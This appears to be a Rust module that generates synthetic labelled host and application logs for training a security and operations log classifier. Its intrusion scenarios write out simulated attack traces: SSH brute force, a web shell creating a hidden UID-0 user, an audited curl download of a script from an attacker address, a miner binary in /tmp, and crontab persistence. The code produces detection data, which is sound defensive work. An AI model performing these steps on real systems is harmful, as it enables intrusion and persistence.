//! Host and application logs: plain text lines (syslog and application formats) and JSON
//! lines, as exported from CloudWatch Logs.

use chrono::{DateTime, Duration, Utc};
use serde_json::json;

use super::{Env, LabelledRaw, Raw};
use crate::ml::Category;
use crate::record::LogType;
use crate::training::rng::SplitMix64;

const SERVICES: &[&str] = &[
    "orders-api",
    "payment-worker",
    "inventory",
    "reporting-batch",
    "web-frontend",
    "notifier",
];
const PATHS: &[&str] = &[
    "/api/products",
    "/api/cart",
    "/api/orders",
    "/api/account",
    "/health",
];
const HOSTS: &[&str] = &[
    "ip-10-0-3-17",
    "ip-10-0-5-201",
    "ip-10-0-7-44",
    "ip-10-0-9-12",
];

/// What a scenario logs: a text line, or a JSON document (`json` adds time and service).
enum Message {
    Line(String),
    Json(serde_json::Value),
}
use Message::{Json, Line};

struct Gen<'e> {
    env: &'e Env,
    rng: SplitMix64,
    out: Vec<LabelledRaw>,
}

impl Gen<'_> {
    fn line(&mut self, t: DateTime<Utc>, message: String, label: Category, scenario: &'static str) {
        let line = if self.rng.chance(0.5) {
            // syslog-style: time host program: message
            format!(
                "{} {} {message}",
                t.format("%Y-%m-%dT%H:%M:%S%.3fZ"),
                self.rng.pick(HOSTS)
            )
        } else {
            format!("{} {message}", t.format("%Y-%m-%dT%H:%M:%S%.3fZ"))
        };
        let record = LabelledRaw::new(LogType::Text, Raw::Line(line), t, label, scenario);
        self.out.push(record);
    }

    fn json(
        &mut self,
        t: DateTime<Utc>,
        value: serde_json::Value,
        label: Category,
        scenario: &'static str,
    ) {
        let mut v = value;
        v["time"] = json!(t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string());
        v["service"] = json!(self.rng.pick(SERVICES));
        let raw = Raw::Json(v.to_string());
        let record = LabelledRaw::new(LogType::GenericJson, raw, t, label, scenario);
        self.out.push(record);
    }

    fn emit(
        &mut self,
        t: DateTime<Utc>,
        message: Message,
        label: Category,
        scenario: &'static str,
    ) {
        match message {
            Line(line) => self.line(t, line, label, scenario),
            Json(value) => self.json(t, value, label, scenario),
        }
    }

    fn pid(&mut self) -> i64 {
        self.rng.range(300, 32000)
    }
}

pub fn generate(env: &Env, rng: &mut SplitMix64) -> Vec<LabelledRaw> {
    let mut g = Gen {
        env,
        rng: rng.fork("lines"),
        out: Vec::new(),
    };
    normal(&mut g);
    errors(&mut g);
    slowness(&mut g);
    intrusions(&mut g);
    g.out
}

fn normal(g: &mut Gen<'_>) {
    for _ in 0..g.env.count(11_000) {
        let t = g.env.any_time(&mut g.rng);
        let svc = *g.rng.pick(SERVICES);
        let rid = g.rng.hex(16);
        let kind = g.rng.below(14);
        if kind < 3 {
            let path = *g.rng.pick(PATHS);
            let status = *g.rng.pick(&[200, 200, 200, 201, 304, 404]);
            let ms = g.rng.log_normal(25.0, 0.7) as i64;
            g.json(t, json!({"level": "info", "msg": "request completed", "method": "GET", "path": path, "status": status, "latency_ms": ms, "request_id": rid}), Category::Normal, "benign/app-json");
            continue;
        }
        let message = match kind {
            3 => format!(
                "INFO [{svc}] GET {} 200 {}ms request_id={rid}",
                g.rng.pick(PATHS),
                g.rng.log_normal(20.0, 0.6) as i64
            ),
            4 => format!(
                "DEBUG [{svc}] cache hit key=product:{}",
                g.rng.range(1000, 99999)
            ),
            5 => format!(
                "INFO [{svc}] processed batch of {} messages in {}ms",
                g.rng.range(10, 500),
                g.rng.range(20, 900)
            ),
            6 => format!(
                "systemd[1]: Started Session {} of user ec2-user.",
                g.rng.range(1, 9000)
            ),
            7 => {
                let pid = g.pid();
                format!(
                    "sshd[{pid}]: Accepted publickey for ec2-user from 10.0.{}.{} port {} ssh2: ED25519 SHA256:{}",
                    g.rng.range(1, 12),
                    g.rng.range(2, 250),
                    g.rng.range(30000, 60000),
                    g.rng.hex(20)
                )
            }
            8 => {
                let pid = g.pid();
                format!("CRON[{pid}]: (root) CMD (/usr/local/bin/rotate-logs.sh)")
            }
            9 => format!(
                "INFO [{svc}] indexer completed: {} documents, 0 errors",
                g.rng.range(100, 5000)
            ),
            10 => format!(
                "WARN [{svc}] retrying request to inventory after connection reset (attempt 2/3)"
            ),
            11 => format!("INFO [{svc}] scheduled job nightly-export started"),
            12 => format!(
                "kernel: [{}.{:06}] ena 0000:00:05.0 eth0: Link is up",
                g.rng.range(100, 999_999),
                g.rng.range(0, 999_999)
            ),
            _ => format!("INFO [{svc}] user {} signed in", g.rng.range(1, 100_000)),
        };
        g.line(t, message, Category::Normal, "benign/app");
    }
}

/// `incidents` times, one service logs a burst of 1 to 8 messages of one of `kinds` kinds
/// (`message` writes them), `gap_ms` apart: how failures and slowdowns show in application
/// logs.
fn incidents(
    g: &mut Gen<'_>,
    incidents: usize,
    kinds: u64,
    gap_ms: (i64, i64),
    (label, scenario): (Category, &'static str),
    message: impl Fn(&mut Gen<'_>, u64, &str) -> Message,
) {
    for _ in 0..g.env.count(incidents) {
        let mut t = g.env.any_time(&mut g.rng);
        let svc = *g.rng.pick(SERVICES);
        let kind = g.rng.below(kinds);
        for _ in 0..g.rng.range(1, 8) {
            t += Duration::milliseconds(g.rng.range(gap_ms.0, gap_ms.1));
            let m = message(g, kind, svc);
            g.emit(t, m, label, scenario);
        }
    }
}

fn errors(g: &mut Gen<'_>) {
    let scenario = (Category::SystemError, "ops/app-error");
    incidents(g, 120, 7, (5, 4000), scenario, |g, kind, svc| match kind {
        0 => Line(format!(
            "ERROR [{svc}] unhandled exception: java.lang.NullPointerException at com.acme.orders.CartService.total(CartService.java:{})",
            g.rng.range(20, 400)
        )),
        1 => Line(format!(
            "ERROR [{svc}] failed to connect to db-primary.prod.internal:5432: connection refused"
        )),
        2 => Line(format!("FATAL [{svc}] out of memory, aborting")),
        3 => Line(format!(
            "kernel: Out of memory: Killed process {} (java) total-vm:{}kB, anon-rss:{}kB",
            g.pid(),
            g.rng.range(4_000_000, 9_000_000),
            g.rng.range(2_000_000, 4_000_000)
        )),
        4 => Line(format!(
            "systemd[1]: {svc}.service: Main process exited, code=killed, status=9/KILL"
        )),
        5 => Line(format!(
            "ERROR [{svc}] Traceback (most recent call last): File \"/app/worker.py\", line {}, in handle: KeyError: 'order_id'",
            g.rng.range(10, 300)
        )),
        _ => Json(
            json!({"level": "error", "msg": "upstream request failed", "upstream": "inventory", "status": 502, "error": "connection refused"}),
        ),
    });
}

fn slowness(g: &mut Gen<'_>) {
    let scenario = (Category::Performance, "ops/app-slow");
    incidents(
        g,
        110,
        6,
        (100, 10_000),
        scenario,
        |g, kind, svc| match kind {
            0 => Line(format!(
                "WARN [{svc}] slow query took {}ms: SELECT * FROM orders WHERE customer_id = ?",
                g.rng.range(2_000, 20_000)
            )),
            1 => Line(format!(
                "WARN [{svc}] request to api.stripe.com timed out after 30000ms"
            )),
            2 => Line(format!(
                "WARN [{svc}] connection pool exhausted (max=50), waiting for a free connection"
            )),
            3 => Line(format!(
                "INFO [{svc}] GC pause {}ms (G1 Evacuation Pause) young",
                g.rng.range(800, 4_000)
            )),
            4 => Line(format!(
                "WARN [{svc}] queue backlog {} messages, consumers lagging",
                g.rng.range(5_000, 200_000)
            )),
            _ => {
                let latency = g.rng.range(5_000, 30_000);
                Json(
                    json!({"level": "warn", "msg": "deadline exceeded calling payments", "latency_ms": latency}),
                )
            }
        },
    );
}

fn intrusions(g: &mut Gen<'_>) {
    for n in 0..g.env.count(40) {
        let mut t = g.env.any_time(&mut g.rng);
        let attacker = g.env.internet_ip(&mut g.rng);
        match n % 4 {
            // Password guessing, sometimes successful.
            0 => {
                let pid = g.pid();
                // `outcome` is what sshd says of the attempt ("Failed password for root").
                let attempt = |g: &mut Gen<'_>, t, outcome: &str| {
                    let port = g.rng.range(30000, 65000);
                    let message =
                        format!("sshd[{pid}]: {outcome} from {attacker} port {port} ssh2");
                    g.line(
                        t,
                        message,
                        Category::CriticalSecurity,
                        "attack/ssh-bruteforce",
                    );
                };
                let tries = g.rng.range(5, 40);
                for _ in 0..tries {
                    t += Duration::milliseconds(g.rng.range(200, 3000));
                    let user = *g
                        .rng
                        .pick(&["root", "admin", "ubuntu", "oracle", "test", "postgres"]);
                    let invalid = if user == "root" || user == "ubuntu" {
                        ""
                    } else {
                        "invalid user "
                    };
                    attempt(g, t, &format!("Failed password for {invalid}{user}"));
                }
                if g.rng.chance(0.4) {
                    t += Duration::seconds(2);
                    attempt(g, t, "Accepted password for root");
                }
            }
            // A web shell trying to escalate and stay.
            1 => {
                let steps = [
                    "sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash".to_string(),
                    format!("useradd[{}]: new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash", g.pid()),
                    format!("audit: type=EXECVE argc=3 a0=\"curl\" a1=\"-s\" a2=\"http://{attacker}/m.sh\""),
                    "kernel: audit: apparmor=\"DENIED\" operation=\"exec\" profile=\"nginx\" name=\"/tmp/.x/kdevtmpfsi\"".to_string(),
                    format!("crontab[{}]: (www-data) REPLACE (www-data)", g.pid()),
                ];
                for step in steps {
                    t += Duration::seconds(g.rng.range(1, 120));
                    g.line(t, step, Category::CriticalSecurity, "attack/host-intrusion");
                }
            }
            // Application-level account attacks.
            2 => {
                for _ in 0..g.rng.range(5, 30) {
                    t += Duration::milliseconds(g.rng.range(100, 2000));
                    let message = format!(
                        "WARN [web-frontend] authentication failed for user admin from {attacker}: invalid credentials (attempt {})",
                        g.rng.range(1, 200)
                    );
                    g.line(t, message, Category::CriticalSecurity, "attack/app-auth");
                }
            }
            _ => {
                for _ in 0..g.rng.range(3, 15) {
                    t += Duration::milliseconds(g.rng.range(100, 5000));
                    g.json(t, json!({"level": "warn", "msg": "JWT signature verification failed", "user": "admin", "ip": attacker, "path": "/api/admin/users"}), Category::CriticalSecurity, "attack/app-auth");
                }
            }
        }
    }
}
